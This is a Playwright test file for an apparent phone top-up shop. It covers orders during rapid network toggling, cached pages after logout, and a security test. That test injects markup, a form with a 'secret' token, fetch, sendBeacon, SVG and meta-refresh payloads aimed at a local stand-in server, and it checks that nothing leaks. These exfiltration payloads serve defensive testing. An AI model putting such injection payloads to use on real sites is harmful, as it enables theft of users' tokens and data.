/**
 * A phone between taps: it loses and regains the network, and returns to a page after the logout. Injected markup cannot do harm. In
 * nightly runs, the network toggles two hundred times in a minute.
 */
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { prepareRecharge, listRecharges } from '../support/ordering.ts'
import { isNightly } from '#tests/night.ts'
import { chromium, type Locator } from '@playwright/test'
import { buildChromiumOptions } from '#tests/chromium.ts'
import { expect, login, openPage, test, url } from '../support/shop.ts'

const flips = isNightly ? 200 : 20
const flipMs = isNightly ? 300 : 50

test(
  `the network goes offline and online ${flips} times during orders: one order per tap, complete when the network is back`,
  { tag: '@whole' },
  async ({ page, context, noise }) => {
    test.setTimeout(isNightly ? 600_000 : 300_000)
    noise.ignore(/Failed to load resource|net::ERR/)
    await login(page, '1440000000003')
    const toProvider = async (tap: Locator) => {
      const from = performance.now()
      await tap.click()
      await expect(page).toHaveURL(/\/pay\/mock\//)
      return performance.now() - from
    }
    const usual = await toProvider(await prepareRecharge(page))
    const button = await prepareRecharge(page)
    const before = await listRecharges(page)
    let reports = 0
    page.on('request', (request) => request.url().endsWith('/api/error/report') && reports++)
    const begun = performance.now()
    for (let flip = 0; flip < flips; flip++) {
      const next = begun + (flip + 1) * flipMs
      await context.setOffline(flip % 2 === 0)
      if (flip % 4 === 0) {
        await button.click()
        await expect(button, 'a tap without a network leaves the button usable').toBeEnabled()
      }
      await page.waitForTimeout(Math.max(flipMs / 5, next - performance.now()))
    }
    await context.setOffline(true)
    await expect(page.getByRole('radio', { name: /30\.00/ }).first(), 'what was read stays readable').toBeVisible()
    await button.click()
    await expect(button).toBeEnabled()
    await context.setOffline(false)
    const ms = await toProvider(button)
    console.log(
      `${flips} times; then at the provider after ${Math.round(ms)} ms, without interruptions after ${Math.round(usual)} ms; ${reports} reports`,
    )
    expect(ms, 'from the network to the provider').toBeLessThan(10 * usual)
    if (isNightly) expect(ms).toBeLessThan(2000)
    expect(await listRecharges(page), 'the same tap, however often it was lost').toHaveLength(before.length + 1)
    expect(reports, 'in a minute').toBeLessThanOrEqual(10)
  },
)

test(
  'back to a frozen page of a card after a logout elsewhere: no data of the card is left on it',
  { tag: '@whole' },
  async ({ contextOptions }) => {
    // Playwright disables the back/forward cache
    const browser = await chromium.launch({
      ...buildChromiumOptions(),
      ignoreDefaultArgs: ['--disable-back-forward-cache'],
    })
    const context = await browser.newContext(contextOptions)
    const page = await context.newPage()
    await page.addInitScript(() =>
      addEventListener('pageshow', ({ persisted }) => Object.assign(window, { persisted })),
    )
    await login(page, '1440000000001')
    await expect(page.getByText('1440 **** 0001').first()).toBeVisible()
    await page.goto(`${url()}/healthz`)
    const other = await context.newPage()
    await openPage(other, '/')
    await other.evaluate(() => {
      const kept = JSON.parse(localStorage.getItem('menmian.session')!) as object
      localStorage.setItem('menmian.session', JSON.stringify({ ...kept, simNo: '', simToken: '', simPromoCode: '' }))
    })
    await page.goBack()
    await expect(page).toHaveURL(/iot\/login/)
    await expect(page.getByText('1440 **** 0001')).toHaveCount(0)
    expect(
      await page.evaluate(() => (window as Window & { persisted?: boolean }).persisted),
      'it came frozen, not loaded',
    ).toBe(true)
    await browser.close()
  },
)

test('injected markup sends nothing to a foreign host', { tag: '@whole' }, async ({ page, noise }) => {
  noise.ignore(/CSP|Trusted|Content Security Policy|Refused|violates|Unsafe attempt|Failed to load|preload/i)
  const heard: string[] = []
  const foreign = createServer((request, response) => {
    heard.push(request.url ?? '')
    response.end()
  })
  await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve))
  const host = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`
  await openPage(page, '/')
  await expect(page.getByRole('feed').getByRole('link').first()).toBeVisible()
  await page.evaluate((away) => {
    const put = (tag: string, given: Record<string, string>, into: Element = document.body) => {
      const element = document.createElement(tag)
      for (const [name, value] of Object.entries(given))
        try {
          element.setAttribute(name, value)
        } catch {
          // Trusted Types block what would load a document
        }
      return into.appendChild(element)
    }
    put('img', { src: `${away}/img`, srcset: `${away}/srcset 2x` })
    for (const rel of ['stylesheet', 'preload', 'prefetch', 'modulepreload', 'icon', 'manifest'])
      put('link', { rel, href: `${away}/${rel}`, as: 'image' }, document.head)
    for (const tag of ['iframe', 'embed', 'audio', 'video', 'source', 'track', 'input'])
      put(tag, { src: `${away}/${tag}`, type: tag === 'input' ? 'image' : '' })
    put('object', { data: `${away}/object` })
    put('base', { href: `${away}/` }, document.head)
    put('div', { style: `background: url(${away}/style)` })
    const form = put('form', { action: `${away}/form`, method: 'post' }) as HTMLFormElement
    put('input', { name: 'token', value: 'secret' }, form)
    form.submit()
    void fetch(`${away}/fetch`, { mode: 'no-cors' }).catch(() => undefined)
    navigator.sendBeacon(`${away}/beacon`, 'secret')
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
    for (const tag of ['image', 'use', 'feImage', 'script', 'foreignObject', 'a', 'animate', 'filter']) {
      const element = document.createElementNS('http://www.w3.org/2000/svg', tag)
      for (const name of ['href', 'src', 'style', 'attributeName', 'fill', 'filter'])
        try {
          element.setAttribute(
            name,
            /href|src/.test(name) ? `${away}/svg-${tag}#x` : `url(${away}/svg-${tag}-${name}#x)`,
          )
        } catch {
          // as above
        }
      svg.append(element)
    }
    document.body.append(svg)
  }, host)
  await page.waitForTimeout(1500)
  expect(heard).toEqual([])

  // attempts to navigate the page itself
  await page.evaluate((away) => {
    for (const content of [`0;url=${away}/refresh?secret`, `1; ${away}/refresh-later`])
      document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content }))
  }, host)
  await page.waitForTimeout(2000)
  expect(heard).toEqual([])
  expect(new URL(page.url()).origin).toBe(url())
  // and the page still works (Playwright's own locators wait for the blocked navigation)
  expect(await page.evaluate(() => document.querySelectorAll('[role="feed"] button').length)).toBeGreaterThan(0)
  foreign.close()
})
